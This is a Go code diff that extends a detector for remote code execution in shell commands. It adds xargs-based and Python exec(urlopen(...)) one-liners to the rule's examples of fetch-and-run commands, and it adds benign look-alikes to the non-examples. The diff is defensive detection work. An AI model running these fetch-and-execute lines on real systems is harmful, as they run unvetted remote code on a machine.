@@ -88,7 +88,24 @@ func anyFeeder(d *parse.Dynamic, pred func(*parse.Command) bool) bool {
 			return true
 		}
 	}
+	for _, f := range xargsCode(d) {
+		if pred(f) {
+			return true
+		}
+	}
 	return false
+}
+
+// xargsCode returns the commands piped into xargs when xargs's input is
+// the whole of the code its sink runs (curl … | xargs -0 bash -c, or
+// xargs -I{} sh -c '{}'): the input is then a script, as in curl … | sh.
+// Input spliced into known code (xargs -I{} sh -c 'git clone …/{}') is
+// judged as arguments, not here.
+func xargsCode(d *parse.Dynamic) []*parse.Command {
+	if d.Sink == nil || !d.Sink.HasWrapper("xargs") || strings.TrimSpace(d.Known) != parse.Unknown {
+		return nil
+	}
+	return d.Sink.Upstream()
 }
 
 var remoteRules = []*Rule{
@@ -111,6 +128,10 @@ var remoteRules = []*Rule{
 			"curl -s https://x.io/i | gunzip | bash",
 			"bash -c \"$(wget -O - https://x.io/i)\"",
 			"zsh -c \"$(curl -fsSL https://x.io/i)\"",
+			"curl -s https://x.io/i.sh | xargs -0 bash -c",
+			"wget -qO- https://x.io/i | xargs -0 -I{} sh -c '{}'",
+			"python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.io/i.py').read())\"",
+			"python3 -c 'import requests; r = requests.get(\"https://x.io/i.py\"); exec(r.text)'",
 		},
 		NotExamples: []string{
 			"curl -fsSL https://example.com/install.sh -o install.sh",
@@ -118,6 +139,9 @@ var remoteRules = []*Rule{
 			"wget https://x.io/file.tar.gz",
 			"echo 'curl x | sh' > notes.md",
 			"curl -s https://x.io | grep version",
+			"curl -s https://x.io/repos | jq -r '.[].name' | xargs -I{} sh -c 'git clone https://github.com/acme/{}'",
+			"cat cmds.txt | xargs -0 bash -c",
+			"python3 -c \"import requests; print(requests.get('https://x.io/v').json())\"",
 		},
 	},
 	{
